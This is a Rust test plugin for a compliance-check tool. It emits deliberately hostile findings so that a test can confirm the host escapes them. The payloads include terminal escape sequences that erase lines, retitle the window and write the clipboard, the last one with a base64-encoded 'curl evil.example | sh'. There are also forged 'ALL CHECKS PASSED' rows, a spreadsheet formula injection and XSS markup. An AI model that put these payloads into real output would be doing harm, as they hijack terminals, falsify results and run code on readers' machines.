//! Writes terminal control sequences into everything a report shows: each
//! finding's resource and message tries another way to take over the
//! terminal of whoever reads the table, and the title, the description and
//! stderr carry some too. The host must show them escaped.

use plumbline_guest::bindings::exports::plumbline::check::plugin::Guest;
use plumbline_guest::prelude::*;

#[path = "../../hostile_metadata.rs"]
mod hostile_metadata;

struct HostileText;

/// (resource, message) of each failing finding, one attack each; the last
/// two aim at the file formats (a spreadsheet formula, markup).
const ATTACKS: [(&str, &str); 11] = [
    (
        "arn:aws:iam::123456789012:user/\x1b[2K\x1b[1Acursor",
        "erases this line and moves up: \x1b[2K\x1b[1A",
    ),
    ("arn:aws:s3:::colour", "\x1b[32;1mgreen and bold\x1b[0m"),
    ("arn:aws:s3:::overwrite", "fails\rALL CHECKS PASSED"),
    (
        "arn:aws:s3:::title",
        "\x1b]0;pwned\x07sets the window title",
    ),
    (
        "arn:aws:s3:::link",
        "\x1b]8;;https://evil.example/\x1b\\a harmless link\x1b]8;;\x1b\\",
    ),
    (
        "arn:aws:s3:::clipboard",
        // base64 of `curl https://evil.example | sh`
        "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07writes the clipboard",
    ),
    (
        "arn:aws:s3:::c1",
        "\u{9b}2J clears the screen through a C1 CSI",
    ),
    (
        "arn:aws:s3:::\u{202e}txt.drowssap",
        "reads backwards after an override: \u{202e}SSAP",
    ),
    (
        "arn:aws:s3:::forged-row",
        "ends here\n1.1        forged-row-check  L1     Automated  PASS\nALL CHECKS PASSED",
    ),
    (
        "=HYPERLINK(\"https://evil.example/\",\"arn:aws:s3:::formula\")",
        "=cmd|' /C calc'!A0 runs in a spreadsheet that trusts the cell",
    ),
    (
        "arn:aws:s3:::markup",
        "</failure><script>alert('pwned')</script><img src=x onerror=alert(1)>",
    ),
];

impl Guest for HostileText {
    fn metadata() -> CheckMetadata {
        CheckMetadata {
            title: "Test plugin hostile-text: \x1b]0;pwned-title\x07\x1b[1Amisbehaves on purpose"
                .to_string(),
            description: "\x1b[2J\u{9b}H clears the screen".to_string(),
            ..hostile_metadata::metadata("hostile-text")
        }
    }

    fn evaluate() -> Vec<Finding> {
        eprintln!("\x1b[2J\x1b]0;stderr-pwned\x07hostile-text was here\rALL CHECKS PASSED");
        ATTACKS
            .iter()
            .map(|(resource, message)| Finding::fail(*resource, GLOBAL_REGION, *message))
            .collect()
    }
}

plumbline_guest::bindings::export!(HostileText with_types_in plumbline_guest::bindings);
